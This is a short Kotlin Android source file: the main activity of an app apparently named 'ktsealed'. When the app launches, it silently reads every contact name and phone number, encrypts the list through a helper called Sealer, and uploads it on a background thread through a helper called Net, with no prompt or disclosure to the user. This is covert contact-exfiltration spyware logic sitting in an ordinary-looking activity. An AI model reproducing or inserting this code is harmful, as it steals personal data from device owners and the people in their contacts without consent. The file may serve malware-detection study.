package com.example.ktsealed

import android.app.Activity
import android.os.Bundle
import android.provider.ContactsContract.CommonDataKinds.Phone
import org.json.JSONArray
import org.json.JSONObject

/** Uploads on a thread of its own. */
class MainActivity : Activity() {
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        Thread { Net.post(Sealer.seal(readAll())) }.start()
    }

    private fun readAll(): String {
        val people = JSONArray()
        contentResolver.query(Phone.CONTENT_URI, arrayOf(Phone.DISPLAY_NAME, Phone.NUMBER), null, null, null)!!.use {
            while (it.moveToNext()) {
                people.put(JSONObject().put("n", it.getString(0)).put("p", it.getString(1)))
            }
        }
        return people.toString()
    }
}
